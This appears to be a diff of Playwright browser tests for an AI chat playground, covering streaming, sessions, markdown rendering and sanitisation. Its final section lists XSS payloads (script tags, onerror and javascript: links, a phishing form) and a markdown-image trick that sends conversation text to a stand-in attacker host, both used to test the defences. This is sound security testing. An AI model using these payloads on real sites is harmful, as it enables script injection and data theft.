@@ -13,6 +13,21 @@ from tests.support.processes import gunicorn, service_env
 
 TOKEN = secret("tok-playground-" + "p" * 24)
 WORDS = "one two three four five six"
+MARKDOWN = """# Plan
+
+Use **bold**, `inline code` and a [link](https://example.com/docs).
+
+- first
+- second
+
+| name | size |
+| --- | --- |
+| a | 1 |
+
+```python
+def greet(name):
+    return f"Hello, {name}"  # a comment
+```"""
 
 
 @pytest.fixture(scope="module")
@@ -40,12 +55,12 @@ def record_reply_growth(page):  # noqa: F811
 
 
 def models_loaded(page) -> None:  # noqa: F811
-    page.wait_for_function("document.querySelectorAll('#model option').length > 0")
+    page.wait_for_function("() => document.querySelectorAll('#model option').length > 0")
 
 
 def replied(page, turns: int) -> None:  # noqa: F811
     """Wait until the conversation has `turns` turns and the page can send again."""
-    page.wait_for_function(f"document.querySelectorAll('#conversation li').length === {turns}"
+    page.wait_for_function(f"() => document.querySelectorAll('#conversation > li').length === {turns}"
                            " && document.getElementById('send').disabled === false")
 
 
@@ -68,7 +83,7 @@ def test_the_reply_grows_in_steps_and_shows_usage(playground, upstream):
     record_reply_growth(playground)
     with upstream.behave(reply=WORDS, chunk_delay=0.1):
         send(playground, "Count to six")
-        playground.wait_for_function("document.getElementById('usage').textContent.includes('total')")
+        playground.wait_for_function("() => document.getElementById('usage').textContent.includes('total')")
     assert last_reply(playground).text_content() == WORDS
     growth = [text for text in dict.fromkeys(playground.evaluate("window.seen")) if text]
     assert len(growth) >= 4, growth
@@ -94,7 +109,7 @@ def test_the_conversation_and_system_prompt_go_with_the_next_message(playground,
 def test_stop_closes_the_upstream_stream(playground, upstream):
     with upstream.behave(reply=" ".join(f"w{n}" for n in range(200)), chunk_delay=0.05):
         send(playground, "Talk for a long time")
-        playground.wait_for_function("document.querySelector('#conversation li.assistant .content')"
+        playground.wait_for_function("() => document.querySelector('#conversation li.assistant .content')"
                                      "?.textContent.includes('w3')")
         playground.click("#stop")
         assert upstream.stream_aborted.wait(15), "the upstream stream stayed open after Stop"
@@ -123,7 +138,7 @@ def test_a_failure_mid_stream_is_shown(playground, upstream):
 def test_server_side_sessions_carry_the_conversation(playground, upstream):
     playground.check("#use-sessions")
     send(playground, "I am Ada")
-    playground.wait_for_function("document.getElementById('session').textContent.startsWith('Session ')"
+    playground.wait_for_function("() => document.getElementById('session').textContent.startsWith('Session ')"
                                  " && document.getElementById('send').disabled === false")
     send(playground, "Who am I?")
     replied(playground, 4)
@@ -143,7 +158,7 @@ def test_a_service_token_opens_a_guarded_service(page, upstream, tmp_path):  # n
         page.press("#token", "Tab")  # the change event reloads the models with the token
         models_loaded(page)
         send(page, "hello")
-        page.wait_for_function("document.querySelector('#conversation li.assistant .content')?.textContent"
+        page.wait_for_function("() => document.querySelector('#conversation li.assistant .content')?.textContent"
                                " === 'Hello from the fake upstream.'")
         assert upstream.chat_requests()[-1].headers["Authorization"].startswith("Bearer sk-server-")
         assert TOKEN not in guarded.log()
@@ -169,7 +184,7 @@ def test_usable_by_keyboard_on_a_phone_width_screen(page, server, upstream):  # 
     page.keyboard.press("Shift+Enter")
     page.keyboard.type("second line")
     page.keyboard.press("Enter")
-    page.wait_for_function("document.querySelector('#conversation li.assistant .content')?.textContent"
+    page.wait_for_function("() => document.querySelector('#conversation li.assistant .content')?.textContent"
                            " === 'Hello from the fake upstream.'")
     assert upstream.last_chat_body()["messages"][-1]["content"] == "first line\nsecond line"
     assert page.evaluate("document.scrollingElement.scrollWidth") <= 375
@@ -177,19 +192,16 @@ def test_usable_by_keyboard_on_a_phone_width_screen(page, server, upstream):  # 
 
 @pytest.mark.parametrize("path, rendered", [("/docs", ".opblock"), ("/redoc", "[data-section-id]")])
 def test_the_docs_render_with_the_network_cut_off(page, server, path, rendered):  # noqa: F811
-    outside = []
+    def elsewhere(url):
+        return urllib.parse.urlsplit(url).hostname != "127.0.0.1"
 
-    def only_loopback(route):
-        if urllib.parse.urlsplit(route.request.url).hostname == "127.0.0.1":
-            route.continue_()
-        else:
-            outside.append(route.request.url)
-            route.abort()
-
-    page.route("**/*", only_loopback)
+    attempted = []  # every request the page makes, even one its Content-Security-Policy refuses
+    page.on("request", lambda request: attempted.append(request.url) if elsewhere(request.url) else None)
+    page.route("**/*", lambda route: route.abort() if elsewhere(route.request.url) else route.continue_())
     page.goto(f"{server.url}{path}")
     page.wait_for_selector(rendered, timeout=30000)
-    assert outside == []
+    page.wait_for_load_state("networkidle")
+    assert attempted == []
     assert page.get_by_text("/v1/chat/completions").count() > 0
 
 
@@ -197,13 +209,13 @@ def test_a_reload_mid_answer_finishes_the_answer(playground, upstream):
     release = threading.Event()
     with upstream.behave(reply=WORDS, wait_for=release, hold_after=2):
         send(playground, "Count to six")
-        playground.wait_for_function("document.querySelector('#conversation li.assistant .content')"
+        playground.wait_for_function("() => document.querySelector('#conversation li.assistant .content')"
                                      "?.textContent === 'one two'")
         playground.reload()  # the answer is still being written upstream
-        playground.wait_for_function("document.querySelector('#conversation li.assistant .content')"
+        playground.wait_for_function("() => document.querySelector('#conversation li.assistant .content')"
                                      "?.textContent === 'one two'")
         release.set()
-        playground.wait_for_function(f"document.querySelector('#conversation li.assistant .content')"
+        playground.wait_for_function(f"() => document.querySelector('#conversation li.assistant .content')"
                                      f"?.textContent === {WORDS!r}")
     assert playground.locator("#conversation li.user .content").all_text_contents() == ["Count to six"]
     assert len(upstream.chat_requests()) == 1  # picked up where it was, not asked again
@@ -270,11 +282,11 @@ def test_the_conversation_survives_a_reload_and_view_code_shows_it(playground, u
     replied(playground, 2)
     playground.fill("#token", "tok-secret-" + "z" * 20)
     playground.reload()
-    playground.wait_for_function("document.querySelectorAll('#conversation li').length === 2")
+    playground.wait_for_function("() => document.querySelectorAll('#conversation > li').length === 2")
     assert playground.locator("#conversation li .content").all_text_contents() == [
         "Remember me", "Hello from the fake upstream."]
     playground.click("#code summary")
-    playground.wait_for_function("document.getElementById('code-curl').textContent !== ''")
+    playground.wait_for_function("() => document.getElementById('code-curl').textContent !== ''")
     curl = playground.locator("#code-curl").text_content()
     python = playground.locator("#code-python").text_content()
     assert '"content":"Remember me"' in curl and "/v1/chat/completions" in curl
@@ -283,7 +295,7 @@ def test_the_conversation_survives_a_reload_and_view_code_shows_it(playground, u
     playground.click("#new-conversation")
     playground.reload()
     models_loaded(playground)
-    assert playground.locator("#conversation li").count() == 0
+    assert playground.locator("#conversation > li").count() == 0
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
@@ -293,10 +305,106 @@ def test_screenshots_for_review(browser, server, upstream, scheme, width):  # no
     shot = context.new_page()
     shot.goto(f"{server.url}/playground")
     models_loaded(shot)
-    send(shot, "Show me a short answer")
-    replied(shot, 2)
+    with upstream.behave(reply=MARKDOWN):
+        send(shot, "Show me a short answer")
+        replied(shot, 2)
     assert shot.evaluate("document.documentElement.dataset.theme") == scheme
     assert shot.evaluate("document.scrollingElement.scrollWidth") <= width
     OUTPUT.mkdir(exist_ok=True)
     shot.screenshot(path=str(OUTPUT / f"playground-{scheme}-{width}px.png"), full_page=True)
     context.close()
+
+
+def test_markdown_is_rendered_while_it_streams(playground, upstream):
+    release = threading.Event()
+    with upstream.behave(reply=MARKDOWN, wait_for=release, hold_after=8):
+        send(playground, "Plan it")
+        playground.wait_for_function("() => document.querySelector('#conversation li.assistant .content strong')")
+        assert playground.locator("#send").is_disabled()  # drawn as markdown before the reply ends
+        release.set()
+        replied(playground, 2)
+    reply = last_reply(playground)
+    assert reply.locator("h1").text_content() == "Plan"
+    assert reply.locator("strong").text_content() == "bold"
+    assert reply.locator(":not(pre) > code").text_content() == "inline code"
+    assert reply.locator("li").all_text_contents() == ["first", "second"]
+    assert reply.locator("td").all_text_contents() == ["a", "1"]
+    link = reply.locator("a")
+    assert (link.get_attribute("href"), link.get_attribute("rel"), link.get_attribute("target")) == (
+        "https://example.com/docs", "noopener noreferrer nofollow", "_blank")
+    code = reply.locator("pre code")
+    assert code.text_content() == 'def greet(name):\n    return f"Hello, {name}"  # a comment\n'
+    assert code.locator(".hljs-keyword").first.text_content() == "def"  # highlighted as Python
+    assert code.locator(".hljs-comment").text_content() == "# a comment"
+
+
+def test_a_code_block_copies_its_code(browser, server, upstream):  # noqa: F811
+    context = browser.new_context()
+    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
+    tab = context.new_page()
+    tab.goto(f"{server.url}/playground")
+    models_loaded(tab)
+    with upstream.behave(reply="Run:\n\n```sh\ncurl -s localhost:5000/health\n```"):
+        send(tab, "How do I check it?")
+        replied(tab, 2)
+    tab.click(".code-block .copy")
+    assert tab.evaluate("navigator.clipboard.readText()") == "curl -s localhost:5000/health"
+    assert tab.locator(".code-block .copy").text_content() == "Copied"
+    context.close()
+
+
+# Model output is untrusted: each of these, in a reply, must neither run nor leave anything in the page that could.
+# With DOMPurify taken out, every row but "image title breaking out" (which marked escapes itself) fails.
+XSS = {
+    "img onerror": '<img src=x onerror="window.pwned=1">',
+    "script tag": "<script>window.pwned=1</script>",
+    "javascript: link": "[press me](javascript:window.pwned=1)",
+    "javascript: link in HTML": '<a href="javascript:window.pwned=1">press me</a>',
+    "entity-encoded javascript: link": "[press me](&#106;avascript:window.pwned=1)",
+    "svg script": "<svg><script>window.pwned=1</script></svg>",
+    "svg onload": '<svg onload="window.pwned=1"></svg>',
+    "iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "image title breaking out": '![x](x "a\" onerror=\"window.pwned=1")',
+    "details ontoggle": "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
+    "form action": '<form action="javascript:window.pwned=1"><button>press me</button></form>',
+    "phishing form": '<form action="/playground"><input name=token placeholder="Your token"><button>Go</button></form>',
+    "style attribute": '<p style="position:fixed;inset:0;background:red">covered</p>',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
+    "markdown around HTML": '**bold** <b onmouseover="window.pwned=1">hover</b> `x`',
+}
+
+
+@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
+def test_a_hostile_reply_runs_nothing(playground, upstream, payload):
+    with upstream.behave(reply=payload):
+        send(playground, "Say something nasty")
+        replied(playground, 2)
+    reply = last_reply(playground)
+    for clickable in reply.locator("a, button, summary, b").all():
+        clickable.click(no_wait_after=True)
+        clickable.hover()
+    playground.reload()  # the reply is drawn again from the kept history
+    models_loaded(playground)
+    replied(playground, 2)
+    reply = last_reply(playground)
+    assert playground.evaluate("window.pwned") is None
+    assert playground.url.endswith("/playground")
+    found = reply.evaluate("""(element) => [...element.querySelectorAll('*')].flatMap((node) =>
+        [node.tagName, ...[...node.attributes].map((a) => `${a.name}=${a.value}`)])""")
+    dangerous = [item for item in found
+                 if re.match(r"(?i)(SCRIPT|IFRAME|META|FORM|INPUT|STYLE|on\w+=|style=|.*javascript:)", item)]
+    assert dangerous == []
+
+
+def test_a_reply_cannot_send_the_conversation_to_another_host(playground, upstream):
+    # The fake upstream stands in for the attacker's server: another origin, and a real one that counts requests.
+    pixel = f"{upstream.base_url}/pixel.png?q=the+secret+plan"
+    violations = playground.evaluate_handle("""() => { const seen = [];
+        document.addEventListener('securitypolicyviolation', (event) => seen.push(event.blockedURI)); return seen; }""")
+    with upstream.behave(reply=f"![status]({pixel})"):
+        send(playground, "The secret plan")
+        replied(playground, 2)
+    playground.wait_for_function("(seen) => seen.length > 0", arg=violations)
+    assert violations.json_value() == [pixel]
+    assert last_reply(playground).locator("img").get_attribute("src") == pixel  # markdown kept, the load refused
+    assert upstream.requests_to("GET", "/pixel.png") == []
